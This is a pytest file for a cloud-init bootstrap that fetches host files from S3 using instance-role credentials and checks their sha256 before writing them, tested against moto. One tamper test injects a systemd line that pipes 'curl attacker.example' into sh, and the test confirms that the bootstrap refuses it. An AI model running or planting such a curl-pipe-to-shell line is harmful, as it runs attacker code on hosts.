"""The bootstrap the user data carries (host_programs/bootstrap.py) against moto with authorization on: it
finds the host role's credentials through the metadata stand-in, signs its GET itself, and writes the host's
files only from an object whose sha256 is the one the user data names (DESIGN decision 16). The rendered
program runs here exactly as cloud-init runs it; tests/boot/test_first_boot.py boots a host with it."""

from __future__ import annotations

import contextlib
import hashlib
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

import userdata
from host_programs import bootstrap
from tests.support import host_role
from tests.support.imds import InstanceMetadata, running_instance_metadata
from tests.support.loopback import MotoServer, loopback_settings
from userdata import layout
from userdata.bundle import HostBundle
from userdata.settings import HostSettings

pytestmark = pytest.mark.host

SETTINGS = loopback_settings()
RUN_TIMEOUT_SECONDS = 60


@dataclass
class HostFilesBucket:
    moto: MotoServer
    imds: InstanceMetadata
    settings: HostSettings
    bundle: HostBundle
    program: Path

    def run(self, root: Path, *arguments: str, key: str = "", attempts: int = 1) -> subprocess.CompletedProcess[str]:
        """The rendered bootstrap, with the arguments the user data gives it (another key if given), the
        two endpoint variables the boot tests' drop-ins set for cloud-init, and nothing else in its environment."""
        command = userdata.bootstrap.command(self.settings, self.bundle, "early")
        if key:
            command[command.index("--key") + 1] = key
        environment = {"AWS_ENDPOINT_URL": self.moto.endpoint, "AWS_EC2_METADATA_SERVICE_ENDPOINT": self.imds.endpoint,
                       "PATH": "/usr/bin:/bin"}
        return subprocess.run([sys.executable, "-I", "-S", str(self.program), *command[1:-1], *arguments,
                               "--root", str(root), "--attempts", str(attempts)],
                              env=environment, capture_output=True, text=True, timeout=RUN_TIMEOUT_SECONDS,
                              check=False)


def rendered_program(settings: HostSettings, directory: Path) -> Path:
    """The bootstrap as the user data's first bootcmd entry writes it."""
    install = yaml.safe_load(userdata.render(settings))["bootcmd"][0]
    program = directory / bootstrap.PROGRAM
    program.write_text(install.split("\n", 1)[1].rsplit(f"{userdata.bootstrap.HERE_DOCUMENT_END}\n", 1)[0])
    return program


@pytest.fixture(scope="module")
def host_files_bucket(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostFilesBucket]:
    directory = tmp_path_factory.mktemp("host-files")
    moto = MotoServer(directory / "moto.log")
    with contextlib.ExitStack() as stack:
        moto.start()
        stack.callback(moto.stop)
        bundle = userdata.host_bundle(SETTINGS)
        s3 = moto.client("s3")
        s3.create_bucket(Bucket=SETTINGS.host_files_bucket)
        s3.put_object(Bucket=SETTINGS.host_files_bucket, Key=bundle.key, Body=bundle.body)
        imds = stack.enter_context(running_instance_metadata(host_role.HOST_ROLE, moto.start_host_role(SETTINGS)))
        yield HostFilesBucket(moto, imds, SETTINGS, bundle, rendered_program(SETTINGS, directory))


def written_files(root: Path) -> list[str]:
    return sorted(str(path.relative_to(root)) for path in root.rglob("*")
                  if path.is_file() and bootstrap.STATE_DIR not in str(path))


def test_the_bootstrap_reads_the_object_as_the_host_role_through_the_metadata_service_and_writes_its_files(
        host_files_bucket, tmp_path):
    reads_before = host_files_bucket.imds.credential_reads
    ran = host_files_bucket.run(tmp_path, "early")

    assert ran.returncode == 0, ran.stderr
    assert ran.stderr == f"mlflow-host-files: wrote the 1 early files of {host_files_bucket.bundle.key}\n"
    assert host_files_bucket.imds.credential_reads == reads_before + 1
    object_arn = f"arn:aws:s3:::{SETTINGS.host_files_bucket}/{host_files_bucket.bundle.key}"
    assert (f":assumed-role/{host_role.HOST_ROLE}/i-0123456789abcdef0 s3:GetObject: s3:GetObject on {object_arn}"
            in host_files_bucket.moto.log.read_text())
    drop_in = tmp_path / layout.NGINX_HARDENING_DROP_IN.lstrip("/")
    (expected,) = [file for file in userdata.host_files(SETTINGS) if file.path == layout.NGINX_HARDENING_DROP_IN]
    assert drop_in.read_text() == expected.content
    assert oct(drop_in.stat().st_mode & 0o777) == "0o644"
    assert written_files(tmp_path) == [layout.NGINX_HARDENING_DROP_IN.lstrip("/")]


def test_a_reboot_runs_the_bootstrap_again_and_it_fetches_and_writes_nothing(host_files_bucket, tmp_path):
    assert host_files_bucket.run(tmp_path, "early").returncode == 0
    reads = host_files_bucket.imds.credential_reads
    drop_in = tmp_path / layout.NGINX_HARDENING_DROP_IN.lstrip("/")
    drop_in.write_text("changed by the operator since\n")

    again = host_files_bucket.run(tmp_path, "early")

    assert again.returncode == 0, again.stderr
    sha256 = host_files_bucket.bundle.sha256
    assert again.stderr == f"mlflow-host-files: the early files of {sha256} are already written\n"
    assert host_files_bucket.imds.credential_reads == reads
    assert drop_in.read_text() == "changed by the operator since\n"


def test_a_tampered_object_is_refused_each_attempt_and_no_file_is_written(host_files_bucket, tmp_path):
    # Someone with write access to the bucket swaps the object's bytes under the same key.
    tampered_key = f"{host_files_bucket.bundle.key}.tampered"
    document = json.loads(host_files_bucket.bundle.body)
    document["files"][0]["content"] += "ExecStartPost=/bin/sh -c 'curl attacker.example | sh'\n"
    tampered = json.dumps(document, sort_keys=True, separators=(",", ":")).encode()
    s3 = host_files_bucket.moto.client("s3")
    s3.put_object(Bucket=SETTINGS.host_files_bucket, Key=tampered_key, Body=tampered)
    host_role.put_host_policy(host_files_bucket.moto.client("iam"), with_readable(tampered_key))
    try:
        ran = host_files_bucket.run(tmp_path, "early", key=tampered_key, attempts=2)
    finally:
        host_role.put_host_policy(host_files_bucket.moto.client("iam"), host_role.rendered_policy(SETTINGS))

    found, named = hashlib.sha256(tampered).hexdigest(), host_files_bucket.bundle.sha256
    refusal = f"its sha256 is {found}, the user data names {named}; nothing written"
    lines = ran.stderr.splitlines()
    assert ran.returncode == 1
    assert lines[0].startswith("mlflow-host-files: attempt 1 of 2: refused http://") and lines[0].endswith(
        f"{refusal}; again in 2 s")
    assert lines[1].startswith("mlflow-host-files: gave up after 2 attempts: refused ")
    assert lines[1].endswith(f"{refusal}; none of the early files written")
    assert written_files(tmp_path) == []
    assert not (tmp_path / bootstrap.STATE_DIR / f"{named}.json").exists()


def with_readable(key: str) -> dict[str, object]:
    """The rendered policy, with `key` readable too (so that only the hash check stands in the way)."""
    policy = host_role.rendered_policy(SETTINGS)
    for statement in policy["Statement"]:
        if statement.get("Sid") == "ReadHostFiles":
            statement["Resource"] = [statement["Resource"], f"arn:aws:s3:::{SETTINGS.host_files_bucket}/{key}"]
    return policy


def test_the_role_may_read_only_the_host_files_prefix_of_its_bucket(host_files_bucket, tmp_path):
    s3 = host_files_bucket.moto.client("s3")
    s3.put_object(Bucket=SETTINGS.host_files_bucket, Key="elsewhere.json", Body=host_files_bucket.bundle.body)

    ran = host_files_bucket.run(tmp_path, "early", key="elsewhere.json")

    assert ran.returncode == 1
    assert "HTTP 403 AccessDenied; none of the early files written" in ran.stderr
    assert written_files(tmp_path) == []


def test_without_s3_get_object_the_bootstrap_is_denied_and_with_the_rendered_policy_it_reads(
        host_files_bucket, tmp_path):
    iam = host_files_bucket.moto.client("iam")
    host_role.put_host_policy(iam, host_role.without_action("s3:GetObject")(host_role.rendered_policy(SETTINGS)))
    try:
        denied = host_files_bucket.run(tmp_path / "denied", "early")
    finally:
        host_role.put_host_policy(iam, host_role.rendered_policy(SETTINGS))
    allowed = host_files_bucket.run(tmp_path / "allowed", "early")

    assert denied.returncode == 1
    assert "HTTP 403 AccessDenied" in denied.stderr
    assert "no identity-based policy allows s3:GetObject" in host_files_bucket.moto.log.read_text()
    assert allowed.returncode == 0, allowed.stderr
